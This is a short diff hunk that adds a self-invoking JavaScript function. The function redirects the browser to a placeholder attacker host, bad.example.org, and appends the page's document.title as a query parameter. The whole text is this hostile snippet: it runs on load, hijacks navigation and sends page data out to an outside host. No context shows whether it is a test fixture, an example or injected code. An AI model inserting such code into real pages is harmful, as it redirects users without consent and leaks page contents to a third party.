@@ -1,0 +1,3 @@
+(function(){
+  location.replace ('//bad.example.org/?k=' + document.title);
+})();
